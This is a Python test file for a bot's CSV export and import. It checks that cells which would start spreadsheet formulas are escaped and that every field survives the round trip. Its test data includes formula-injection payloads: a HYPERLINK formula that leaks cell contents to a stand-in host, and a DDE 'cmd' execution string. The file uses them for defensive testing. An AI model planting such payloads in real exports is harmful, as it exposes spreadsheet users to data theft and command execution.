"""CSV export and import: no cell starts a spreadsheet formula, and export then import gives
back every field of every story the bot can store."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from bot.transfer import (
    EXPORT_FIELDS,
    FORMULA_STARTS,
    ImportRow,
    export_csv,
    neutralise_cell,
    read_csv,
    restore_cell,
)
from domain.story import CONSENTS, KINDS, Draft, Story, validate

NOW = datetime(2026, 3, 2, 9, 30, 15, 123456, tzinfo=UTC)


def imported(row: ImportRow, original: Story) -> Story:
    """The story an import row stores, with the original's id so the two compare."""
    return Story(
        **vars(row.draft),
        id=original.id,
        workspace_id=original.workspace_id,
        author=row.author,
        channel=row.channel,
        created_at=row.created_at,
        updated_at=row.updated_at,
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> None:
    """What a spreadsheet opening the file sees: no cell it would run."""
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_STARTS)), cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.test","click")', '\'=HYPERLINK("http://evil.test","click")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        # A typed apostrophe before a formula character is kept: the mark goes in front of it.
        ("'=1+1", "''=1+1"),
        ("''-2", "'''-2"),
        # Nothing else changes.
        ("Acme", "Acme"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_cells_are_neutralised_and_restored_exactly(value: str, cell: str) -> None:
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


@given(st.text(alphabet="'=+-@\t\r\nab ,\"", max_size=12))
def test_restore_undoes_neutralise_for_any_text(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value
    assert not neutralise_cell(value).startswith(tuple(FORMULA_STARTS))


def story(n: int, **fields: object) -> Story:
    base = Story(
        id=n,
        workspace_id=1,
        customer=f"Customer {n}",
        quote="They said so",
        author="U0AUTHOR",
        channel="C0CHAN",
        created_at=NOW,
        updated_at=NOW.replace(day=5),
    )
    return replace(base, **fields)  # type: ignore[arg-type]


FORMULA_STORIES = [
    story(1, customer='=HYPERLINK("http://evil.test/?q="&A1,"Open")', quote="+1 they loved it", contact="-1"),
    story(2, customer="@SUM(A1:A9)", quote="-2+3", impact="=cmd|' /C calc'!A0", tags=("-minus", "=eq")),
    story(3, customer="'=already quoted", quote='He said "=1+1", then left,\nand came back\tlater'),
    story(4, customer="Plain Corp", quote="Nothing special", consent="anonymous", contact="@cfo"),
]


def test_export_opens_without_formulas_and_imports_back_every_field() -> None:
    text = export_csv(FORMULA_STORIES)
    assert_no_formula(text)
    header, *rows = cells(text)
    assert tuple(header) == EXPORT_FIELDS
    assert rows[0][1].startswith("'=HYPERLINK(") and rows[1][1] == "'@SUM(A1:A9)"
    assert rows[0][3] == "'-1" and rows[1][6] == "'-minus, =eq" and rows[2][1] == "''=already quoted"
    accepted, rejected = read_csv(text)
    assert rejected == []
    assert [imported(r, s) for r, s in zip(accepted, FORMULA_STORIES, strict=True)] == FORMULA_STORIES


def test_cells_starting_with_tab_or_carriage_return_are_neutralised_too() -> None:
    # The bot stores text trimmed, so only data written around it can start so; it is made
    # safe all the same, and imports as the bot would store it.
    raw = story(5, customer="\t=cmd", quote="\r+1 said", contact="\r")
    text = export_csv([raw])
    assert_no_formula(text)
    row = cells(text)[1]
    assert row[1] == "'\t=cmd" and row[2] == "'\r+1 said" and row[3] == "'\r"
    [back], rejected = read_csv(text)
    assert rejected == [] and (back.draft.customer, back.draft.quote, back.draft.contact) == (
        "=cmd",
        "+1 said",
        "",
    )


def test_a_rejected_row_is_reported_by_the_line_it_starts_on() -> None:
    text = (
        "customer,quote,kind\r\n"
        'Acme,"first line\r\nsecond line\r\nthird line",praise\r\n'
        "\r\n"
        'Beta,"spans\ntwo lines",rave\r\n'
        ",no customer,praise\r\n"
    )
    accepted, rejected = read_csv(text)
    assert [r.line for r in accepted] == [2]
    assert accepted[0].draft.quote == "first line\nsecond line\nthird line"
    assert [(r.line, r.reason.split(":")[0]) for r in rejected] == [(6, "kind"), (8, "customer")]


# --- the round trip as a property ---------------------------------------------------------

SPECIAL_STARTS = ["", "=", "+", "-", "@", "'", "''=", "'+", '"', ",", "\t", "\r", "=HYPERLINK(", "@SUM("]
TEXT = st.text(alphabet=st.sampled_from(list("ab Z09=+-@'\",;\t\r\n|<>&éß漢")), max_size=40)


def typed(max_size: int = 40) -> st.SearchStrategy[str]:
    """Text that often starts like a formula, with quotes, commas and line breaks inside."""
    return st.tuples(st.sampled_from(SPECIAL_STARTS), TEXT).map(lambda p: (p[0] + p[1])[:max_size])


# Tags are split on , ; and line breaks when typed; '#' is left out (see the report: a tag
# "# #a" cleans to "#a", and cleaning that again gives "a").
TAG = st.text(alphabet=st.sampled_from(list("ab z09=+-@'\"|éß")), min_size=1, max_size=30)
USER = st.from_regex(r"U[A-Z0-9]{2,12}", fullmatch=True)
CHANNEL = st.from_regex(r"[CGD][A-Z0-9]{2,12}", fullmatch=True)
WHEN = st.datetimes(min_value=datetime(2000, 1, 1), max_value=datetime(2100, 1, 1), timezones=st.just(UTC))


@st.composite
def stored_stories(draw: st.DrawFn) -> Story:
    """A story as the bot stores it: a cleaned, valid draft, with author, channel and times."""
    draft = Draft(
        customer=draw(typed(200)),
        quote=draw(typed(3000)),
        contact=draw(typed(200)),
        impact=draw(typed(1000)),
        kind=draw(st.sampled_from(KINDS)),
        tags=tuple(draw(st.lists(TAG, max_size=10))),
        credited=tuple(draw(st.lists(USER, max_size=5, unique=True))),
        consent=draw(st.sampled_from(CONSENTS)),
        source=draw(st.sampled_from(["", "https://example.com/a?b=1&c=2", "http://x.test/=1,2"])),
    ).cleaned()
    assume(not validate(draft))
    return Story(
        **vars(draft),
        id=draw(st.integers(1, 10**9)),
        workspace_id=1,
        author=draw(st.one_of(st.just(""), USER)),
        channel=draw(st.one_of(st.just(""), CHANNEL)),
        created_at=draw(WHEN),
        updated_at=draw(WHEN),
    )


@settings(max_examples=300, deadline=None)
@given(st.lists(stored_stories(), min_size=1, max_size=5))
def test_export_then_import_round_trips_every_field(originals: list[Story]) -> None:
    text = export_csv(originals)
    assert_no_formula(text)
    accepted, rejected = read_csv(text)
    assert rejected == []
    assert [imported(r, s) for r, s in zip(accepted, originals, strict=True)] == originals
